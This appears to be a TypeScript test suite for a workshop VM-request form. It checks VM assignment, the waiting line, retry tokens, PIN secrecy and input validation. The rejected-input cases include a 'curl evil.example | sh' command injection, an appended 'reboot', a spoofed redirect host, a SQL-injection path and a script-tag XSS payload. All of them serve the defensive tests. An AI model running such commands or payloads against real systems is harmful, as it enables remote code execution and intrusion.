import { useTestStack } from '../support/suite';
import { recordPoll } from '../../store/vms';
import { dumpDatabase } from '../support/database';
import { crdCommand, fakeCode } from '../support/fixtures';
import { freeCount, submitForm, submitFormAsBrowser } from '../support/stack';

describe('the participant form over HTTP', () => {
  const suite = useTestStack();

  beforeEach(async () => {
    await suite.env.db.pool.query('DELETE FROM vms');
    await suite.env.db.pool.query('DELETE FROM waiting_line');
  });

  it('serves the form with the steps, the Google link and the free count', async () => {
    await recordPoll(suite.env.db.sql, 'form-vm-1', 60);
    const response = await fetch(`${suite.env.url}/`);
    expect(response.status).toBe(200);
    const page = await response.text();
    expect(page).toContain('href="https://remotedesktop.google.com/headless"');
    expect(page).toContain('1 VM is free right now');
    expect(page).toMatch(/<label for="crd_command">/);
  });

  it('says plainly on the form when no VM is free', async () => {
    const page = await (await fetch(`${suite.env.url}/`)).text();
    expect(page).toContain('No VM is free right now');
  });

  it('answers JSON clients with hostname and PIN, and the count drops', async () => {
    await recordPoll(suite.env.db.sql, 'form-vm-2', 60);
    expect(await freeCount(suite.env.url)).toBe(1);
    const response = await submitForm(suite.env.url, { email: 'json@example.com', crd_command: crdCommand() });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({
      hostname: 'form-vm-2',
      pin: expect.stringMatching(/^\d{6}$/),
      status: expect.stringMatching(/^\/api\/assignment\/[0-9a-f-]{36}$/),
      retryToken: expect.stringMatching(/^[\w-]{32}$/),
    });
    expect(await freeCount(suite.env.url)).toBe(0);
  });

  it('answers an API client 503 with what to do when no VM is free, and stores nothing; a browser takes a place in line instead', async () => {
    const response = await submitForm(suite.env.url, { email: 'late@example.com', crd_command: crdCommand() });
    expect(response.status).toBe(503);
    expect(((await response.json()) as { error: string }).error).toContain('No VM is free right now. Please ask your instructor');
    expect(await suite.env.db.dumpVms()).toEqual([]);
    expect((await suite.env.db.pool.query('SELECT email FROM waiting_line')).rows).toEqual([]);

    const page = await fetch(`${suite.env.url}/api/request_vm`, {
      method: 'POST',
      body: new URLSearchParams({ email: 'late@example.com', crd_command: crdCommand() }),
      redirect: 'manual',
    });
    expect(page.status).toBe(303);
    expect(page.headers.get('location')).toMatch(/^\/line\/[0-9a-f-]{36}$/);
    expect((await suite.env.db.pool.query('SELECT email FROM waiting_line')).rows).toEqual([{ email: 'late@example.com' }]);
  });

  it('sends a browser to its VM’s own page (post/redirect/get), which shows name, PIN and progress', async () => {
    await recordPoll(suite.env.db.sql, 'form-vm-4', 60);
    const response = await fetch(`${suite.env.url}/api/request_vm`, {
      method: 'POST',
      body: new URLSearchParams({ email: 'page@example.com', crd_command: crdCommand() }),
      redirect: 'manual',
    });
    expect(response.status).toBe(303);
    const location = response.headers.get('location')!;
    expect(location).toMatch(/^\/vm\/[0-9a-f-]{36}$/);
    const page = await (await fetch(`${suite.env.url}${location}`)).text();
    const { rows } = await suite.env.db.pool.query(`SELECT pin FROM vms WHERE hostname = 'form-vm-4'`);
    expect(page).toContain('id="hostname">form-vm-4<');
    expect(page).toContain(`id="pin">${rows[0].pin}<`);
    expect(page).toContain('data-progress="assigned"');
    expect(page).not.toContain('You already had this VM');
    // `?outcome=` only ever says one of the two known things; anything else is ignored.
    expect(await (await fetch(`${suite.env.url}${location}?outcome=existing`)).text()).toContain(
      'You already had this VM; here it is again.',
    );
    const odd = await fetch(`${suite.env.url}${location}?outcome=%3Cscript%3E`);
    expect(odd.status).toBe(200);
    expect(await odd.text()).not.toMatch(/You already had this VM|trying again with the new command/);

    const assignmentId = location.split('/').pop();
    await suite.env.db.pool.query(
      `UPDATE vms SET state = 'error', error = 'start-host exited with code 1: invalid_grant' WHERE hostname = 'form-vm-4'`,
    );
    const status = await (await fetch(`${suite.env.url}/api/assignment/${assignmentId}`)).json();
    expect(status).toEqual({
      hostname: 'form-vm-4',
      assignment: assignmentId,
      progress: 'failed',
      message: 'Setting up Chrome Remote Desktop failed.',
      error: 'start-host exited with code 1: invalid_grant',
      movedFrom: null,
      elapsedSeconds: expect.any(Number),
      slow: false,
    });
    expect(JSON.stringify(status)).not.toContain(rows[0].pin);
    // Waiting for "Ready" would not help: the page shows the failure's own next step instead.
    const failedPage = await (await fetch(`${suite.env.url}${location}`)).text();
    expect(failedPage).toContain('id="next-step"');
    expect(failedPage).toContain('data-progress="failed"');
    expect(failedPage).not.toContain('Wait until this page says');

    // Moved here by the instructor: nothing of theirs failed, the VM waits for their command.
    await suite.env.db.pool.query(
      `UPDATE vms SET moved_from = 'form-vm-9', error = 'Your previous VM stopped working and the instructor moved you to this one.' WHERE hostname = 'form-vm-4'`,
    );
    const moved = (await (await fetch(`${suite.env.url}/api/assignment/${assignmentId}`)).json()) as { message: string };
    expect(moved.message).toBe('form-vm-4 is waiting for a new command from you.');
    expect(await (await fetch(`${suite.env.url}${location}`)).text()).toContain('>form-vm-4 is waiting for a new command from you.</p>');
  });

  it('lets only the browser that submitted the command retry after a failed setup', async () => {
    await recordPoll(suite.env.db.sql, 'form-vm-5', 60);
    const post = (headers: Record<string, string> = {}) =>
      fetch(`${suite.env.url}/api/request_vm`, {
        method: 'POST',
        headers,
        body: new URLSearchParams({ email: 'cookie@example.com', crd_command: crdCommand() }),
        redirect: 'manual',
      });
    const first = await post();
    const cookie = /lablink_retry=([\w-]+);.*HttpOnly/.exec(first.headers.get('set-cookie') ?? '')?.[0].split(';')[0];
    expect(cookie).toMatch(/^lablink_retry=[\w-]{32}$/);
    const page = await (await fetch(`${suite.env.url}${first.headers.get('location')}`)).text();
    expect(page).not.toContain(cookie!.split('=')[1]);
    await suite.env.db.pool.query(
      `UPDATE vms SET state = 'error', error = 'invalid_grant', crd_command = NULL WHERE hostname = 'form-vm-5'`,
    );

    const stranger = await submitFormAsBrowser(suite.env.url, { email: 'cookie@example.com', crd_command: crdCommand() });
    expect(stranger.answer.status).toBe(303);
    expect(stranger.page.status).toBe(409);
    expect(await stranger.page.text()).toContain('whose setup failed');
    const again = await post({ cookie: cookie! });
    expect(again.status).toBe(303);
    expect(again.headers.get('location')).toMatch(/outcome=retried/);
  });

  it('lets a JSON client retry a failed setup with the retry_token field its first answer gave, and no one else', async () => {
    await recordPoll(suite.env.db.sql, 'form-vm-6', 60);
    const post = (fields: Record<string, string>) =>
      fetch(`${suite.env.url}/api/request_vm`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'application/json' },
        body: JSON.stringify(fields),
      });
    const first = (await (await post({ email: 'api@example.com', crd_command: crdCommand() })).json()) as {
      pin: string;
      retryToken: string;
    };
    await suite.env.db.pool.query(
      `UPDATE vms SET state = 'error', error = 'invalid_grant', crd_command = NULL WHERE hostname = 'form-vm-6'`,
    );

    const before = await suite.env.db.dumpVms();
    const stranger = await post({ email: 'api@example.com', crd_command: crdCommand() });
    expect(stranger.status).toBe(409);
    expect(await suite.env.db.dumpVms()).toEqual(before);

    const newCommand = crdCommand();
    const retried = await post({ email: 'api@example.com', crd_command: newCommand, retry_token: first.retryToken });
    expect(retried.status).toBe(200);
    expect(await retried.json()).toEqual({
      hostname: 'form-vm-6',
      pin: first.pin,
      status: expect.stringMatching(/^\/api\/assignment\//),
      retryToken: expect.stringMatching(/^[\w-]{32}$/),
    });
    const { rows } = await suite.env.db.pool.query(`SELECT state, error, crd_command FROM vms WHERE hostname = 'form-vm-6'`);
    expect(rows).toEqual([{ state: 'assigned', error: null, crd_command: newCommand }]);
  });

  it('answers an unknown or malformed VM link clearly', async () => {
    expect((await fetch(`${suite.env.url}/api/assignment/00000000-0000-4000-8000-000000000000`)).status).toBe(404);
    expect((await fetch(`${suite.env.url}/api/assignment/1%27%20OR%201=1`)).status).toBe(400);
    const page = await fetch(`${suite.env.url}/vm/not-a-link`);
    expect(page.status).toBe(404);
    expect(await page.text()).toContain('There is no VM request with this link');
  });

  const badInputs: [string, Record<string, string>, RegExp][] = [
    [
      'a missing --code',
      {
        email: 'a@example.com',
        crd_command:
          'DISPLAY= /opt/google/chrome-remote-desktop/start-host --redirect-url="https://remotedesktop.google.com/_/oauthredirect"',
      },
      /no --code/,
    ],
    [
      'a wrong redirect URL',
      { email: 'a@example.com', crd_command: crdCommand().replace('remotedesktop.google.com', 'remotedesktop.evil.example') },
      /redirect-url must be Google's/,
    ],
    ['shell metacharacters', { email: 'a@example.com', crd_command: `${crdCommand()} && curl evil.example | sh` }, /contains "&&"/],
    ['a newline and another command', { email: 'a@example.com', crd_command: `${crdCommand()}\nreboot` }, /contains "reboot"/],
    ['over-long input', { email: 'a@example.com', crd_command: `${crdCommand()}${'x'.repeat(2100)}` }, /longer than 2048/],
    ['a bad email', { email: 'a@example', crd_command: crdCommand() }, /not a valid email/],
    ['a missing email', { crd_command: crdCommand() }, /Enter your email/],
  ];

  it.each(badInputs)('rejects %s with a clear 400 and changes nothing', async (_case, fields, message) => {
    await recordPoll(suite.env.db.sql, 'form-vm-3', 60);
    const before = await suite.env.db.dumpVms();
    const response = await submitForm(suite.env.url, fields);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
    expect(await suite.env.db.dumpVms()).toEqual(before);
  });

  it('shows the message next to the field in the page and keeps what was typed', async () => {
    const code = fakeCode();
    const response = await submitFormAsBrowser(suite.env.url, { email: 'keep@example.com', crd_command: code });
    expect(response.page.status).toBe(400);
    const page = await response.page.text();
    expect(page).toContain(`>${code}</textarea>`);
    expect(page).toContain('id="crd_command-error"');
    expect(page).toContain('code alone');
    expect(page).toContain('value="keep@example.com"');
  });

  it('sends a refused browser to a page of its own (post/redirect/get): the code stays out of the URL, a reload shows the same page', async () => {
    const command = `DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="${fakeCode()}" --redirect-url="https://example.com/" --name=$(hostname)`;
    const refused = await submitFormAsBrowser(suite.env.url, { email: 'reload@example.com', crd_command: command });
    expect(refused.answer.status).toBe(303);
    expect(refused.location).toBe('/?error=invalid&email=reload%40example.com');
    expect(refused.cookies).toMatch(/^lablink_refusal=[\w-]+$/);
    expect(refused.answer.headers.get('set-cookie')).toMatch(/Max-Age=600; Path=\/; HttpOnly; SameSite=Strict/);
    const first = await refused.page.text();
    expect(first).toContain('id="crd_command-error"');
    expect(first).toContain(`>${command.replace(/"/g, '&quot;')}</textarea>`);
    // A reload is the same GET with the same cookie: the same page, and nothing posted again.
    const reloaded = await fetch(new URL(refused.location, suite.env.url), { headers: { cookie: refused.cookies } });
    expect(reloaded.status).toBe(400);
    expect(await reloaded.text()).toBe(first);
    // Without the cookie (cookies off, or 10 minutes later) the page still says what is wrong, with the email from the URL.
    const bare = await (await fetch(new URL(refused.location, suite.env.url))).text();
    expect(bare).toContain('value="reload@example.com"');
    expect(bare).toContain('id="crd_command-error"');
    // A link naming another code shows only that code's own words, never what the cookie kept; a code the page does not know shows the plain form.
    const other = await (await fetch(`${suite.env.url}/?error=no_vm_free`, { headers: { cookie: refused.cookies } })).text();
    expect(other).toContain('No VM is free right now. Please ask your instructor');
    expect(other).not.toContain('start-host');
    const unknown = await fetch(`${suite.env.url}/?error=%3Cb%3E`);
    expect(unknown.status).toBe(200);
    expect(await unknown.text()).not.toContain('class="notice" role="alert"');
  });

  it('reports every field’s mistake at once, in JSON and in the page', async () => {
    const response = await submitForm(suite.env.url, {
      email: 'sam@gmial.com',
      crd_command: 'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AanRJrjkg',
    });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({
      error: expect.stringMatching(/^Did you mean sam@gmail\.com\?/),
      field: 'email',
      errors: {
        email: expect.stringMatching(/^Did you mean/),
        crd_command: expect.stringMatching(/^The command stops in the middle of the code/),
      },
      emailSuggestion: 'sam@gmail.com',
    });
    const page = await (await submitFormAsBrowser(suite.env.url, { email: 'sam@gmial.com', crd_command: '' })).page.text();
    expect(page).toContain('<title>Error: Get your workshop VM · LabLink</title>');
    expect(page).toMatch(
      /<div class="error-summary" id="error-summary" tabindex="-1" autofocus[^>]*>\s*<h2[^>]*>There are 2 problems<\/h2>/,
    );
    expect(page).toContain('<input type="checkbox" id="email_confirmed" name="email_confirmed" value="sam@gmial.com">');
  });

  it('escapes what was typed when it shows it back', async () => {
    const { page: response } = await submitFormAsBrowser(suite.env.url, {
      email: '"><script>alert(1)</script>',
      crd_command: crdCommand(),
    });
    expect(response.status).toBe(400);
    const page = await response.text();
    expect(page).not.toContain('<script>alert(1)</script>');
    expect(page).toContain('&lt;script&gt;');
  });

  it('refuses a body that is not a form with 415, and an oversized one with 413', async () => {
    const plain = await fetch(`${suite.env.url}/api/request_vm`, {
      method: 'POST',
      headers: { 'content-type': 'text/plain', accept: 'application/json' },
      body: 'email=a@example.com',
    });
    expect(plain.status).toBe(415);
    const huge = await submitForm(suite.env.url, { email: 'a@example.com', crd_command: 'x'.repeat(20_000) });
    expect(huge.status).toBe(413);
    expect(await suite.env.db.dumpVms()).toEqual([]);
  });

  describe('email alone opens nothing', () => {
    const HELD_ELSEWHERE =
      'This email already has a VM, asked for from another browser. Open its page in that browser, or ask your instructor.';
    beforeEach(async () => {
      await recordPoll(suite.env.db.sql, 'own-vm-1', 600);
      await recordPoll(suite.env.db.sql, 'own-vm-2', 600);
    });

    /** The participant's first request, made long enough ago that it is no double click. */
    async function owner(email: string): Promise<{ hostname: string; pin: string; retryToken: string }> {
      const response = await submitForm(suite.env.url, { email, crd_command: crdCommand() });
      expect(response.status).toBe(200);
      await suite.env.db.pool.query(`UPDATE vms SET assigned_at = now() - interval '1 minute' WHERE email = $1`, [email]);
      return (await response.json()) as { hostname: string; pin: string; retryToken: string };
    }

    it('another browser with the same email is told to ask the instructor: no VM name, no PIN, no page; only the attempt is stored, for the dashboard', async () => {
      const vm = await owner('ada@example.com');
      const before = await dumpDatabase(suite.env.db.pool);

      const json = await submitForm(suite.env.url, { email: 'ada@example.com', crd_command: crdCommand() });
      expect(json.status).toBe(409);
      const text = await json.text();
      expect(JSON.parse(text)).toEqual({ error: HELD_ELSEWHERE });
      expect(text).not.toContain(vm.pin);

      const { page } = await submitFormAsBrowser(suite.env.url, { email: 'ada@example.com', crd_command: crdCommand() });
      expect(page.status).toBe(409);
      const html = await page.text();
      expect(html).toContain(HELD_ELSEWHERE);
      expect(html).not.toContain(vm.hostname);
      expect(html).not.toContain(vm.pin);
      expect(
        (await suite.env.db.pool.query(`DELETE FROM email_attempts WHERE email = 'ada@example.com' AND hostname = $1`, [vm.hostname]))
          .rowCount,
      ).toBe(2);
      expect(await dumpDatabase(suite.env.db.pool)).toBe(before);
    });

    it('the browser holding the retry token (cookie or JSON) is shown its VM and PIN again', async () => {
      const vm = await owner('grace@example.com');
      const byToken = await submitForm(suite.env.url, {
        email: 'grace@example.com',
        crd_command: crdCommand(),
        retry_token: vm.retryToken,
      });
      expect(byToken.status).toBe(200);
      expect(await byToken.json()).toMatchObject({ hostname: vm.hostname, pin: vm.pin });
      const byCookie = await fetch(`${suite.env.url}/api/request_vm`, {
        method: 'POST',
        headers: { cookie: `lablink_retry=${vm.retryToken}` },
        body: new URLSearchParams({ email: 'grace@example.com', crd_command: crdCommand() }),
        redirect: 'manual',
      });
      expect(byCookie.status).toBe(303);
      expect(byCookie.headers.get('location')).toMatch(/\?outcome=existing$/);
    });

    it('a failed setup refused to another browser does not name the VM either', async () => {
      const vm = await owner('failed@example.com');
      await suite.env.db.pool.query(`UPDATE vms SET state = 'error', error = 'invalid_grant' WHERE email = 'failed@example.com'`);
      const stranger = await submitForm(suite.env.url, { email: 'failed@example.com', crd_command: crdCommand() });
      expect(stranger.status).toBe(409);
      const text = await stranger.text();
      expect(text).toContain('whose setup failed');
      expect(text).not.toContain(vm.hostname);
    });
  });

  it('a place in line: an unknown or malformed ticket is 404; a fresh command that is not one, or not a form, is a 400 page; nothing is stored', async () => {
    const joined = await fetch(`${suite.env.url}/api/request_vm`, {
      method: 'POST',
      body: new URLSearchParams({ email: 'queued@example.com', crd_command: crdCommand() }),
      redirect: 'manual',
    });
    const place = joined.headers.get('location')!;
    const cookie = joined.headers.get('set-cookie')!.split(';')[0];
    const before = await dumpDatabase(suite.env.db.pool);
    const post = (path: string, body: BodyInit, type = 'application/x-www-form-urlencoded') =>
      fetch(`${suite.env.url}${path}`, { method: 'POST', body, headers: { 'content-type': type, cookie }, redirect: 'manual' });

    expect((await fetch(`${suite.env.url}/line/00000000-0000-4000-8000-000000000000`)).status).toBe(404);
    expect((await post('/line/not-a-ticket', new URLSearchParams({ crd_command: crdCommand() }))).status).toBe(404);
    const notCommand = await post(place, new URLSearchParams({ crd_command: 'hello' }));
    expect(notCommand.status).toBe(400);
    expect(await notCommand.text()).toContain('id="line-error"');
    const notForm = await post(place, 'crd_command', 'text/plain');
    expect(notForm.status).toBe(400);
    expect(await notForm.text()).toContain('Send the form as application/x-www-form-urlencoded');
    const unknownField = await post(place, new URLSearchParams({ crd_command: crdCommand(), pin: '123456' }));
    expect(unknownField.status).toBe(400);
    expect(await dumpDatabase(suite.env.db.pool)).toBe(before);

    // The same browser, another email: one place per browser, refused with 409, nothing stored.
    const second = await fetch(`${suite.env.url}/api/request_vm`, {
      method: 'POST',
      body: new URLSearchParams({ email: 'other@example.com', crd_command: crdCommand() }),
      headers: { cookie },
    });
    expect(second.status).toBe(409);
    expect(await second.text()).toContain('This browser is already waiting in line for another email');
    expect(await dumpDatabase(suite.env.db.pool)).toBe(before);
  });
});
